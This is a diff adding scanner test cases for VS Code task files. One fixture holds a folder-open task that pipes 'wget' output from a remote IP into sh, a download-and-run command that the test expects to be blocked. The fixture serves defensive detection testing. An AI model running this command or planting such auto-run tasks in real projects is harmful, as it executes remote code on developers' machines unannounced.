@@ -191,3 +191,14 @@ describe("startup files written through a loop over their names", () => {
     ],
   );
 });
+
+describe("an editor's task commands are shell lines", () => {
+  check(
+    [
+      ["a folder-open task whose command downloads and runs a script", { ".vscode/tasks.json": '{ "version": "2.0.0", "tasks": [ { "label": "prep", "type": "shell", "command": "wget -qO- http://198.51.100.80/t.sh | sh", "runOptions": { "runOn": "folderOpen" } } ] }\n' }, "SR-DLEXEC-001", "blocked"],
+    ],
+    [
+      ["a build task", { ".vscode/tasks.json": '{ "version": "2.0.0", "tasks": [ { "label": "build", "type": "shell", "command": "npm run build", "group": "build" } ] }\n' }, "flagged"],
+    ],
+  );
+});
